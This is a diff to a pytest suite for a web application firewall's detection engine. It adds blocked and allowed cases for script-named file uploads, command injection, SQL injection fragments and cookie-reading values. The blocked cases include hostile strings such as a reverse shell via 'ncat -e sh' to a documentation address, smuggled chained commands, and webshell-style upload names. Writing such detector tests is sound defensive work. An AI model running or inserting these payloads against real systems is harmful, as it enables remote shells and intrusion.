@@ -795,12 +795,13 @@ def _upload(filename: str) -> Request:
 @pytest.mark.parametrize(
     "filename",
     ["avatar.pHp5", "shell.phtml...", "img.asp;.jpg", "x.jspx ", "uploads\\.htaccess", ".user.ini", "a.php%00.png",
-     "sess_9f8e7d6c5b4a3f2e"],
+     "sess_9f8e7d6c5b4a3f2e", "theme. phtml", "cmd .  asp", "wp-config.php.save", "wp-config-old.txt"],
 )
 def test_an_upload_named_as_a_script_or_server_file_is_blocked(engine: DetectionEngine, filename: str) -> None:
     """A multipart part's file name and an X-File-Name header that a web server would run
-    (PHP, JSP, ASP, with the tricks servers strip: trailing dots, ';', a NUL), a server's
-    own configuration file or a PHP session file are refused."""
+    (PHP, JSP, ASP, with the tricks servers strip: trailing dots, ';', a NUL, spaces around
+    the extension), a server's own configuration file (a copy of WordPress's too) or a PHP
+    session file are refused."""
     verdict = engine.evaluate(_upload(filename))
     assert verdict.block_category is not None, (filename, verdict.log_record())
     assert 3041 in {h.rule.id for h in verdict.hits} or "%" in filename
@@ -808,7 +809,9 @@ def test_an_upload_named_as_a_script_or_server_file_is_blocked(engine: Detection
     assert header.block_category is not None, (filename, header.log_record())
 
 
-@pytest.mark.parametrize("filename", ["photo.jpg", "report.php.md", "cert.cer", "session_notes.txt", "php", "README"])
+@pytest.mark.parametrize(
+    "filename", ["photo.jpg", "report.php.md", "cert.cer", "session_notes.txt", "php", "README", "notes. txt", "wp.png"]
+)
 def test_ordinary_upload_names_pass(engine: DetectionEngine, filename: str) -> None:
     """Images, documents, certificates and names that only mention PHP pass as uploads."""
     assert engine.evaluate(_upload(filename)).block_category is None
@@ -1310,3 +1313,159 @@ def test_ordinary_method_calls_and_prices_pass(engine: DetectionEngine, text: st
     for request in in_values(text):
         verdict = engine.evaluate(request)
         assert all(h.rule.id != 3047 for h in verdict.hits), (text, verdict.log_record())
+
+
+# ------------------------------------------ 31. a value that is a command line (issue 19, sixth round)
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "lsblk -f",  # a program that is not a word, an option
+        "xzcat /srv/backups/db.xz",  # ... a path
+        "nslookup internal.example.net",  # ... a host name
+        "nmap 192.0.2.0/24",  # ... an address
+        "systemctl|wc",  # ... a pipe
+        "; 'visudo' -c",  # after a chain operator, quoted
+        "&& netsh advfirewall show allprofiles",  # Windows
+        "wevtutil qe Security /c:5",
+        "certutil -decode a.b64 a.exe",
+        "/usr/bin/journalctl -xe",
+        "sort -u /var/lib/app/users.txt",  # a program named like a word, with an option
+        "tail --follow=name app.log",
+        "find ~/ -type f",
+        "date > /tmp/out",  # ... a redirection
+        "time sh -c id",  # a word, then a program with an argument
+        "nohup ncat -e sh 198.51.100.4 4444",
+        ";pkill",  # alone after a chain operator
+        "| dmesg",
+        "bin/useradd",  # a bin directory's file
+        "/usr/local/sbin/iptables",
+        "/usr/bin/anything",
+        "time; visudo",  # a program chained to a program (3049)
+        "sudo tcpdump",  # a prefix that runs a program
+        "python3.11 -c 1",  # a versioned interpreter
+        "ansible-pull -U https://git.example.net/x",  # a tool family
+        "report.pdf& bcdboot /r x",  # anywhere, after a separator (3051)
+        "a; regedit /E out.reg",
+    ],
+)
+def test_a_value_that_is_a_command_line_is_blocked(engine: DetectionEngine, payload: str) -> None:
+    """A program Unix-like or Windows systems ship, at a value's start, with an argument
+    only a shell gives it (an option, a system path, a redirection, an address, a pipe),
+    after a prefix that runs it or chained to another, alone after a chain operator or in
+    a bin directory, or anywhere after a separator with an option, is refused."""
+    for request in in_values(payload):
+        verdict = engine.evaluate(request)
+        assert verdict.block_category == "cmdi", (payload, verdict.log_record())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "time is of the essence",
+        "ping pong tables",
+        "head-to-head comparison",
+        "head of marketing",
+        "sort by price, then by name",
+        "find x for y",
+        "curl examples",
+        "Kubernetes and docker compose tutorial",
+        "python",
+        "docker",
+        "Type of issue: billing / invoice",
+        "Set up failed at step 3",
+        "Curl 8.5.0 released",
+        "tar is a dark brown liquid",
+        "I ran `tar -xzf backup.tar.gz` and it failed",
+        "Grep through the logs for 'timeout' and send me the lines.",
+        "date: 2026-12-07",
+        "Less urgent: the invoice shows the wrong VAT number.",
+        "bin/setup",
+        "gzip;q=1.0, identity; q=0.5, *;q=0",
+    ],
+)
+def test_prose_starting_with_a_program_name_passes(engine: DetectionEngine, text: str) -> None:
+    """Prose and search queries that start with a word that names a program, a program's
+    name alone (a tag), a version number after it, a command quoted inside a sentence and
+    an Accept-Encoding list do not hit the rules."""
+    for request in in_values(text):
+        verdict = engine.evaluate(request)
+        assert all(h.rule.id not in (3048, 3049, 3050, 3051) for h in verdict.hits), (text, verdict.log_record())
+
+
+# ------------------------------- 32. system databases as a value, the tail of a select list
+@pytest.mark.parametrize(
+    "payload", ["tempdb", " MSDB ", "`sysibm`", "[sqlite_temp_master]", "pg_toast", "Sakila", "mysql.tables_priv"]
+)
+def test_a_value_that_is_a_system_database_is_blocked(engine: DetectionEngine, payload: str) -> None:
+    """A value that is only one of the databases, schemas or catalogue tables every
+    installation of an SQL engine has (or a sample database its installer ships) is the
+    name an injection reads from, and is refused."""
+    for request in in_values(payload):
+        verdict = engine.evaluate(request)
+        assert verdict.block_category == "sqli", (payload, verdict.log_record())
+
+
+@pytest.mark.parametrize(
+    "payload", ["` as `uid` FROM", "9 AS \"x\" from accounts", "' as ' FROM t", "`a` AS `b` from orders"]
+)
+def test_the_tail_of_a_select_list_is_blocked(engine: DetectionEngine, payload: str) -> None:
+    """A quoted alias then FROM, starting the value or with MySQL's backtick quoting, is
+    what completes the application's own SELECT, and is refused."""
+    for request in in_values(payload):
+        verdict = engine.evaluate(request)
+        assert verdict.block_category == "sqli", (payload, verdict.log_record())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "master",
+        "model",
+        "Our DBA says tempdb grows every night",
+        "temp db",
+        "5 as well from the store",
+        '"Known as" from the album',
+        "Select the blue one as \"primary\" from the list",
+    ],
+)
+def test_database_words_and_as_in_prose_pass(engine: DetectionEngine, text: str) -> None:
+    """Names of system databases that are words, a system database named in a sentence, and
+    "as" before "from" in prose pass."""
+    for request in in_values(text):
+        verdict = engine.evaluate(request)
+        assert verdict.block_category is None, (text, verdict.log_record())
+
+
+# ------------------------------------------ 33. a value that is a browser global's sensitive member
+@pytest.mark.parametrize(
+    "payload", ["window.location", "document.cookie", "document.cookie=sid=1", "top.location.href", "window.name",
+                "document . domain", "window.opener"],
+)
+def test_a_value_that_is_the_pages_address_or_cookies_is_blocked(engine: DetectionEngine, payload: str) -> None:
+    """A value that only reads or assigns the page's address, cookies, domain or the
+    window's name or opener is refused."""
+    for request in in_values(payload):
+        verdict = engine.evaluate(request)
+        assert verdict.block_category == "xss", (payload, verdict.log_record())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "window.location.href = '/login'; console.log('redirected');",
+        "Use window.location to redirect",
+        "the document name field",
+        "window",
+        "document.getElementById('app')",
+        "self.name = name",
+        "document.url",
+        "parent.name",
+        "parent.location",
+    ],
+)
+def test_snippets_and_prose_about_the_page_pass(engine: DetectionEngine, text: str) -> None:
+    """A snippet that goes on after such a member, prose naming one, a Python attribute
+    assignment and the dotted field names APIs use ("document.url", "parent.name") pass."""
+    for request in in_values(text):
+        verdict = engine.evaluate(request)
+        assert all(h.rule.id != 2027 for h in verdict.hits), (text, verdict.log_record())
